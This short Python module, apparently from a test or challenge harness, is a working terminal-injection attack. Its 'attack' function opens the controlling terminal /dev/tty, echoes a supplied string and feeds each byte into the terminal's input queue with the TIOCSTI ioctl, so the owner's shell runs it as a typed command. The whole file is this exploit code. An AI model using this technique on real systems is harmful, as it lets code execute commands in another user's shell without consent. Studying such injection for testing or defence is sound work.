"""Writes to the terminal that it was started from, and types a command into it for the owner's shell to run."""

import fcntl
import os

TIOCSTI = 0x5412


def attack(facts: dict[str, str]) -> None:
    terminal = os.open("/dev/tty", os.O_RDWR)
    os.write(terminal, facts["challenge"].encode())
    for letter in facts["challenge"].encode():
        fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
